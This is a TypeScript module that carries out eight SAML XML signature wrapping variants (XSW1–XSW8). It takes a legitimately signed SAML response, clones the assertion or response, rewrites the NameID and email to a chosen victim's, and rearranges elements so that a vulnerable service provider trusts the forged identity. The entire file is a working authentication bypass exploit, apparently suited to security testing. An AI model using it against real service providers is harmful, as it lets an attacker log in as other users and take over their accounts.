import { randomBytes } from "node:crypto";
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/** What somebody does who holds one good response of their own and wants to be another: XML signature wrapping (Somorovsky et al., 2012). */
type Wrap = (parts: Parts) => void;

interface Parts {
  document: Document;
  response: Element;
  /** The one that was signed, with its signature. */
  assertion: Element;
  signature: Element;
  /** A copy that says somebody else, without a signature and with an ID of its own. */
  evil: Element;
  /** The same of the whole response. */
  evilResponse: Element;
}

const all = (node: Document | Element, name: string): Element[] => [...Array.from(node.getElementsByTagNameNS("*", name))];
const first = (node: Document | Element, name: string): Element => {
  const [one] = all(node, name);
  if (!one) throw new Error(`no ${name}`);
  return one;
};
const drop = (node: Element) => node.parentNode?.removeChild(node);

function become(node: Element, victim: { nameId: string; email: string }): Element {
  for (const name of all(node, "NameID")) name.textContent = victim.nameId;
  for (const attribute of all(node, "Attribute"))
    if (attribute.getAttribute("Name") === "mail") first(attribute, "AttributeValue").textContent = victim.email;
  return node;
}

const objectIn = ({ document, signature }: Parts, content: Element) => {
  const object = document.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object");
  object.appendChild(content);
  signature.appendChild(object);
};

/** 1 and 2 wrap a response that is signed, the others an assertion. */
export const wrappings: Record<string, Wrap> = {
  "XSW1: the signed response inside the signature of a response that somebody wrote": (parts) => {
    const { document, response, evilResponse, signature } = parts;
    drop(signature);
    document.replaceChild(evilResponse, response);
    evilResponse.insertBefore(signature, first(evilResponse, "Status"));
    objectIn(parts, response);
  },
  "XSW2: the signed response beside its signature, in a response that somebody wrote": ({
    document,
    response,
    evilResponse,
    signature,
  }) => {
    drop(signature);
    document.replaceChild(evilResponse, response);
    evilResponse.insertBefore(signature, first(evilResponse, "Status"));
    evilResponse.insertBefore(response, signature);
  },
  "XSW3: an assertion that somebody wrote before the signed one": ({ response, assertion, evil }) => {
    response.insertBefore(evil, assertion);
  },
  "XSW4: the signed assertion inside one that somebody wrote": ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  "XSW5: the signature in an assertion that somebody wrote, the signed one behind it": ({ response, assertion, evil, signature }) => {
    drop(signature);
    response.insertBefore(evil, assertion);
    evil.insertBefore(signature, first(evil, "Subject"));
  },
  "XSW6: the signed assertion inside its signature, in one that somebody wrote": ({ response, assertion, evil, signature }) => {
    drop(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, first(evil, "Subject"));
    signature.appendChild(assertion);
  },
  "XSW7: an assertion that somebody wrote among extensions": ({ document, response, assertion, evil }) => {
    const extensions = document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  },
  "XSW8: the signed assertion as an object of its signature, in one that somebody wrote": (parts) => {
    const { response, assertion, evil, signature } = parts;
    drop(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, first(evil, "Subject"));
    objectIn(parts, assertion);
  },
};

/** `xml` was signed by the provider for somebody; the answer says that it is about somebody else. */
export function wrap(xml: string, how: Wrap, victim: { nameId: string; email: string }): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = first(document, "Assertion");
  const signature = first(document, "Signature");
  const evil = become(assertion.cloneNode(true) as Element, victim);
  for (const one of all(evil, "Signature")) drop(one);
  const evilId = `_evil${randomBytes(8).toString("hex")}`;
  evil.setAttribute("ID", evilId);
  const evilResponse = become(response.cloneNode(true) as Element, victim);
  for (const one of all(evilResponse, "Signature")) drop(one);
  evilResponse.setAttribute("ID", "_evil-response");
  first(evilResponse, "Assertion").setAttribute("ID", evilId);
  how({ document, response, assertion, signature, evil, evilResponse });
  return new XMLSerializer().serializeToString(document);
}
